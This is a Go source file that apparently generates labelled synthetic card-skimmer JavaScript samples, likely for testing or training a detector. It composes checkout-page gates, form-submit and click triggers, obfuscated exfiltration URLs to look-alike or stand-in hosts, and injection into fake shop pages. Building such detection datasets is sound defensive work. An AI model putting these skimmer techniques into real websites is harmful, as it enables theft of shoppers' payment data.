package sample

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
)

// Malicious returns n texts of every family, each in several forms.
func Malicious(seed uint64, n int) []Sample {
	var out []Sample
	for _, f := range families() {
		r := source(seed, f.name)
		for i := range n {
			text := f.make(r)
			forms := []string{Plain, hidings[r.IntN(len(hidings))]}
			switch i % 3 {
			case 1:
				forms = []string{Minified, hidings[r.IntN(len(hidings))]}
			case 2:
				forms = []string{Plain, Minified}
			}
			for _, form := range forms {
				s, ok := Hide(text, form, r)
				if !ok {
					if form != Plain {
						continue
					}
					s = text
				}
				if r.IntN(6) == 0 {
					s = inPage(s, r)
				}
				out = append(out, Sample{ID: fmt.Sprintf("malicious/%s/%d/%s", f.name, i, form), Family: "own:" + f.name, Malicious: true, Form: form, Text: s})
			}
		}
	}
	return out
}

// family makes texts of one design.
type family struct {
	name string
	make func(*rand.Rand) string
}

// families are all designs: what collects, with what sends, in combinations,
// and those that stand by themselves.
func families() []family {
	var out []family
	for _, c := range collectors {
		for _, s := range senders {
			out = append(out, family{c.name + " to " + s.name, func(r *rand.Rand) string { return compose(c, s, r) }})
		}
	}
	return append(out, designs...)
}

// part makes a piece of code; the meaning of its arguments is the part's.
type part struct {
	name string
	text func(r *rand.Rand, h string) string
}

// names are what variables of the designs are called, before hiding.
var names = []string{"data", "d", "o", "obj", "res", "info", "buf", "out", "fields", "vals", "rec", "q", "snd", "form_data", "result", "arr", "cc_data", "billing_data", "tmp", "s1"}

func compose(c, s part, r *rand.Rand) string {
	v := pick(r, names)
	body := c.text(r, v) + s.text(r, v)
	body = trigger(body, r)
	body = gate(body, r)
	if r.IntN(3) == 0 {
		body = "(function(){" + body + "})();"
	}
	return body
}

var gateWords = []string{"onepage", "checkout", "onestep", "firecheckout", "onestepcheckout", "payment", "billing", "order", "cart/checkout", "idecheckoutvm", "opc", "secure", "checkout/#payment"}

// gate puts the test for a checkout page around a body, in two of three.
func gate(body string, r *rand.Rand) string {
	list := slices.Clone(gateWords)
	r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	words := strings.Join(list[:1+r.IntN(4)], "|")
	one := pick(r, []string{"checkout", "onepage", "checkout", "onestep", "payment"})
	switch r.IntN(9) {
	case 0:
		return "if((new RegExp('" + words + "')).test(window.location)){" + body + "}"
	case 1:
		return "if(/" + strings.ReplaceAll(words, "/", `\/`) + "/i.test(location.href)){" + body + "}"
	case 2:
		return "if(window.location.href.indexOf('" + one + "')>-1){" + body + "}"
	case 3:
		return "if(location.pathname.match(/" + one + "/)){" + body + "}"
	case 4:
		return "if(document.location.href.includes('" + one + "')&&document.cookie.indexOf('adminhtml')==-1){" + body + "}"
	case 5:
		return "var ur=window.location.href.toLowerCase();if(ur.search('" + one + "')!=-1){" + body + "}"
	}
	return body
}

// trigger says when a body runs.
func trigger(body string, r *rand.Rand) string {
	button := pick(r, []string{"button", "#place_order", ".btn-checkout", "button[type=submit]", "#onestepcheckout-place-order", ".checkout-btn", "#payment_form .submit", "input[type=submit]", "#co-payment-form button"})
	switch r.IntN(12) {
	case 0:
		return "setInterval(function(){" + body + "}," + fmt.Sprint(500+r.IntN(3000)) + ");"
	case 1:
		return "document.addEventListener('submit',function(ev){" + body + "},true);"
	case 2:
		return "jQuery(document).ready(function(){jQuery('" + button + "').on('click',function(){" + body + "});});"
	case 3:
		return "$(document).on('change','form',function(){" + body + "});"
	case 4:
		return "window.addEventListener('load',function(){var b=document.querySelector('" + button + "');if(b){b.addEventListener('mousedown',function(){" + body + "});}});"
	case 5:
		return "var btns=document.querySelectorAll('" + button + "');for(var n=0;n<btns.length;n++){btns[n].onclick=function(){" + body + "};}"
	case 6:
		return "function grab(){" + body + "}document.addEventListener('DOMContentLoaded',function(){setTimeout(function(){document.forms[0].onsubmit=grab;},1500);});"
	case 7:
		return "window.onload=function(){jQuery('" + button + "').bind('mouseup touchend',function(a){" + body + "});};"
	case 8:
		return "window.addEventListener('beforeunload',function(){" + body + "});"
	case 9:
		return "var done=false;function check_all(){if(done)return;" + body + "done=true;}setInterval(check_all,700);"
	}
	return body
}

// where makes an address to send to or load from, as code that gives it.
func where(r *rand.Rand, path string) string {
	h := evilHost(r)
	scheme := pick(r, []string{"https://", "https://", "https://", "//", "http://"})
	u := scheme + h + path
	switch r.IntN(10) {
	case 0:
		return "atob('" + base64.StdEncoding.EncodeToString([]byte(u)) + "')"
	case 1:
		runes := []rune(u)
		slices.Reverse(runes)
		return "'" + string(runes) + "'.split('').reverse().join('')"
	case 2:
		i := 3 + r.IntN(len(u)-5)
		return "'" + u[:i] + "'+'" + u[i:] + "'"
	case 3:
		var codes []string
		for _, c := range []byte(u) {
			codes = append(codes, fmt.Sprint(c))
		}
		return "String.fromCharCode(" + strings.Join(codes, ",") + ")"
	}
	return "'" + u + "'"
}

var paths = []string{"/g.php", "/gate.php", "/collect", "/api/v1", "/jquery.min.js", "/ga.php", "/img.gif", "/s", "/stat.php", "/pay/save.php", "/c", "/upload.php", "/index.php", "/m/info", "/tr", "/validate", "/media/data.php", "/js/mage.php", "/log", "/b"}

// evilHost makes up a name of one of the sorts that are used: a look-alike, a
// cheap ending, an address, a broken-in shop, or a name of no sort.
func evilHost(r *rand.Rand) string {
	stem := []string{"google", "jquery", "magento", "cdn", "analytics", "gstatic", "cloudflare", "bootstrap", "static", "tagmanager", "stats", "script", "ajax", "secure", "payment", "facebook", "stripe", "paypal", "livechat", "tracker", "font"}
	word := []string{"storage", "main", "api", "cdn", "stat", "js", "live", "cloud", "mage", "data", "info", "host", "sync", "zone", "plus", "lib", "node", "core", "service", "metric"}
	cheapEnd := []string{"top", "su", "pw", "icu", "xyz", "info", "site", "space", "link", "click", "ru", "in", "host", "club", "cc", "biz", "online", "tk", "ml", "ws"}
	plain := []string{"baways-gate", "wskonnect", "trivalleylights", "boutique-ecoute", "noze-baterky", "scriptb", "infopromo", "ordercontrol", "tehnikalife", "neweggdata", "sevenpays", "amasty-box", "zolotoykey", "bralenta", "firstofbanks", "mxcounter", "ccvalidate", "totalsecure", "webfotce", "slickjs"}
	switch r.IntN(10) {
	case 0, 1, 2:
		return pick(r, stem) + pick(r, []string{"-", "", "-"}) + pick(r, word) + "." + pick(r, append(cheapEnd, "com", "net", "org"))
	case 3, 4:
		return pick(r, plain) + "." + pick(r, cheapEnd)
	case 5:
		return fmt.Sprintf("%d.%d.%d.%d", 5+r.IntN(190), r.IntN(255), r.IntN(255), 1+r.IntN(250))
	case 6:
		return pick(r, []string{"goog1e", "googie", "g00gle", "google-anaiytics", "jqeury", "cioudflare", "paypai", "strlpe", "magentto", "analytlcs", "gooogletagmanager"}) + pick(r, []string{"", "-api", "-cdn", "stat"}) + "." + pick(r, []string{"com", "net", "org", "info"})
	case 7:
		return pick(r, []string{"cdn-stat", "evil", "s-metrics", "mage-track", "collector"}) + fmt.Sprint(r.IntN(90)) + ".example"
	}
	return pick(r, plain) + pick(r, []string{"", "-" + pick(r, word)}) + "." + pick(r, []string{"com", "net", "org", "com", "com"})
}

// inPage puts a script into a page of a shop.
func inPage(s string, r *rand.Rand) string {
	k := Kinds()
	before := ""
	for range 1 + r.IntN(3) {
		before += "<script>" + fill(pick(r, k).Text, r) + "</script>\n"
	}
	return "<!DOCTYPE html><html><head><title>" + pick(r, []string{"Checkout", "Shop", "Home & Garden", "Order"}) + "</title>\n<link rel=stylesheet href=/css/a.css><script src=/js/jquery.js></script>\n" + before +
		"</head><body class=\"catalog\"><div id=main><p>Free delivery over 50</p><form action=/search><input name=q></form></div>\n<script type=\"text/javascript\">" + s + "</script></body></html>"
}
